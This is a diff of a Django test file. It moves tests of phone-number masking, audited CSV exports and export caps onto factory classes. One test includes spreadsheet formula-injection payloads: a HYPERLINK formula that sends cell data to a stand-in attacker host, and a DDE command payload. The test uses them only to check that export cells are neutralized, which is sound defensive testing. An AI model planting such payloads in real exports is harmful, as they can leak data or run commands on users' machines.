@@ -27,11 +27,11 @@ from django.db import connection
 from audit.models import AuditLog
 from audit.services import Actor, audit_log_record
 from interactions.models import CallDetail, Interaction, Message
-from tests.api.helpers import make_interaction as make_api_interaction
+from tests.factories import PASSWORD, InteractionFactory, OngoingInteractionFactory, UserFactory
 from tests.support.fixtures import broker, celery_worker_factory, wait_for  # noqa: F401
 from webhooks.models import InteractionEvent
 
-from .conftest import PASSWORD, AdminBrowser, make_api_key, make_user, totp_device, totp_now
+from .conftest import AdminBrowser, make_api_key, totp_device, totp_now
 
 FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "providers"
 # The customer's number in the provider fixtures, and its national part: every spelling of it contains these digits.
@@ -250,7 +250,7 @@ def test_the_admin_masks_the_same_data_and_leaves_dates_and_ids_alone(prod_serve
         target_id=call.pk,
         data={"reason": "el cliente pidió que le llamen al 55 1234 5678", "at": "2026-11-25T12:00:00Z"},
     )
-    auditor = make_user("aud", role="auditor", staff=True)
+    auditor = UserFactory(username="aud", roles=["auditor"], staff=True)
     browser = AdminBrowser(server.url)
     assert browser.login("aud", PASSWORD, totp_now(totp_device(auditor))).status_code == 302
 
@@ -319,7 +319,7 @@ def postgres_echoes_the_failing_row(table: str, event: str):
 @pytest.mark.slow
 def test_no_log_line_of_a_failing_request_or_a_phone_filter_carries_a_full_number(prod_server):
     server = prod_server()
-    interaction = make_api_interaction(channel="sms", customer_phone=CUSTOMER)
+    interaction = InteractionFactory(channel="sms", customer_phone=CUSTOMER)
     key = make_api_key("supervisor")
     headers = {"Authorization": f"Api-Key {key}"}
     mark = server.log_mark()
@@ -355,7 +355,7 @@ def test_no_log_line_of_a_failing_request_or_a_phone_filter_carries_a_full_numbe
 def test_no_log_line_of_a_failing_task_carries_a_full_number(celery_worker_factory, broker):  # noqa: F811
     from interactions.tasks import message_deliver_task
 
-    interaction = make_api_interaction(channel="sms", customer_phone=CUSTOMER)
+    interaction = InteractionFactory(channel="sms", customer_phone=CUSTOMER)
     message = Message.objects.create(
         interaction=interaction,
         channel="sms",
@@ -406,11 +406,13 @@ def admin_client_as(client, db):
 @pytest.mark.django_db
 def test_an_export_with_numbers_in_clear_asks_for_a_reason_and_audits_it(admin_client_as):
     from tests.backoffice.conftest import create_staff
-    from tests.backoffice.conftest import make_interaction as make_admin_interaction
 
     supervisor = create_staff("sup", "supervisor")
     client = admin_client_as(supervisor)
-    interactions = [make_admin_interaction(phone=CUSTOMER), make_admin_interaction(phone="+14155550100")]
+    interactions = [
+        OngoingInteractionFactory(customer_phone=CUSTOMER),
+        OngoingInteractionFactory(customer_phone="+14155550100"),
+    ]
 
     form = _export(client, interactions)
     assert form.status_code == 200 and form["Content-Type"].startswith("text/html")
@@ -442,10 +444,9 @@ def test_an_export_with_numbers_in_clear_asks_for_a_reason_and_audits_it(admin_c
 @pytest.mark.django_db
 def test_a_masked_export_needs_no_reason_but_is_audited_with_its_filters(admin_client_as):
     from tests.backoffice.conftest import create_staff
-    from tests.backoffice.conftest import make_interaction as make_admin_interaction
 
     auditor = create_staff("aud", "auditor")
-    interaction = make_admin_interaction(phone=CUSTOMER, status="open")
+    interaction = OngoingInteractionFactory(customer_phone=CUSTOMER, status="open")
     response = admin_client_as(auditor).post(
         EXPORT_URL + "?status__exact=open",
         {"action": "export_csv", "_selected_action": [str(interaction.pk)], "index": "0", "select_across": "1"},
@@ -463,13 +464,12 @@ def test_every_export_cell_a_spreadsheet_would_read_as_a_formula_is_neutralized(
     from django.contrib.auth import get_user_model
 
     from tests.backoffice.conftest import create_staff
-    from tests.backoffice.conftest import make_interaction as make_admin_interaction
 
     auditor = create_staff("aud", "auditor")
     payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
-    interactions = [make_admin_interaction(phone=CUSTOMER, external_id=payload) for payload in payloads]
+    interactions = [OngoingInteractionFactory(customer_phone=CUSTOMER, external_id=payload) for payload in payloads]
     agent = get_user_model().objects.create_user(username="\tagent", password="x")
-    interactions.append(make_admin_interaction(phone=CUSTOMER, external_id="\rline", agent=agent))
+    interactions.append(OngoingInteractionFactory(customer_phone=CUSTOMER, external_id="\rline", assigned_agent=agent))
     rows = _csv_rows(_export(admin_client_as(auditor), interactions))
     cells = [cell for row in rows[1:] for cell in row]
     assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
@@ -482,12 +482,11 @@ def test_every_export_cell_a_spreadsheet_would_read_as_a_formula_is_neutralized(
 @pytest.mark.django_db
 def test_an_export_over_the_cap_is_cut_and_says_so(admin_client_as, settings):
     from tests.backoffice.conftest import create_staff
-    from tests.backoffice.conftest import make_interaction as make_admin_interaction
 
     settings.EXPORT_MAX_ROWS = 2
     auditor = create_staff("aud", "auditor")
     client = admin_client_as(auditor)
-    interactions = [make_admin_interaction(phone=CUSTOMER) for _ in range(3)]
+    interactions = [OngoingInteractionFactory(customer_phone=CUSTOMER) for _ in range(3)]
 
     notice = _export(client, interactions)
     assert notice.status_code == 200 and notice["Content-Type"].startswith("text/html")
